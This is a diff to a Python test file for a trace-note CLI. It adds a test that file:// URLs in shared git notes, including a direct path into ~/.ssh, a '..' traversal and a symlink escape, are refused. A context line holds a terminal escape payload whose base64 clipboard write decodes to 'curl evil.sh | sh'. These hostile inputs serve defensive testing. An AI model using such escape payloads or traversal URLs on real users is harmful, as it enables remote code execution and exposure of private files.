@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 import re
 import shutil
@@ -256,3 +257,34 @@ def test_an_error_quoting_a_notes_text_spells_its_control_characters_out(env: En
         "Error: don't know how to fetch gopher://evil\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b]0;pwned\\x07"
         "\\u202egnp\n"
     )
+
+
+def test_a_note_pointing_at_a_local_file_outside_the_configured_store_is_not_read(env: Env) -> None:
+    """A teammate's note (`tracekeeper pull`) can name any `file://` path: the private key next
+    door, another user's data. `show` reads a note's file only inside the local store this
+    machine is configured for (symlinks and `..` resolved first), and says in one line why not
+    otherwise, never showing the file, even when it is a transcript matching the note's sha256."""
+    store = env.root / "store"
+    store.mkdir()
+    env.vars["TRACEKEEPER_STORE"] = store.as_uri()
+    private = env.home / ".ssh" / "notes.jsonl"
+    private.parent.mkdir()
+    data = CODEX.read_bytes()
+    private.write_bytes(data)
+    (store / "link.jsonl").symlink_to(private)
+    shutil.copy(CODEX, store / "ok.jsonl")
+    repo = make_repo(env)
+    digest = hashlib.sha256(data).hexdigest()
+    meta = {"agent": "codex", "session": "s1", "lines": [1, data.count(b"\n")], "bytes": len(data), "sha256": digest}
+    hostile = [private.as_uri(), f"file://{store}/../h/.ssh/notes.jsonl", f"file://{store}/link.jsonl"]
+    for index, url in enumerate([*hostile, f"file://{store}/ok.jsonl"]):
+        sha = repo.commit(f"c{index}", file=f"f{index}.txt")
+        note = "hf-trace-meta: " + json.dumps({"url": url, **meta})
+        repo.git("notes", "--ref=refs/notes/hf-traces", "add", "-m", note, sha)
+        proc = env.cli("show", sha, "-C", str(repo.path), "--raw", check=False)
+        if url in hostile:
+            assert proc.returncode == 1 and proc.stdout == "", url
+            assert proc.stderr.startswith(f"Error: {url} ") and proc.stderr.count("\n") == 1, proc.stderr
+            assert "outside the configured local store" in proc.stderr
+        else:
+            assert (proc.returncode, proc.stdout.encode()) == (0, data), proc.stderr
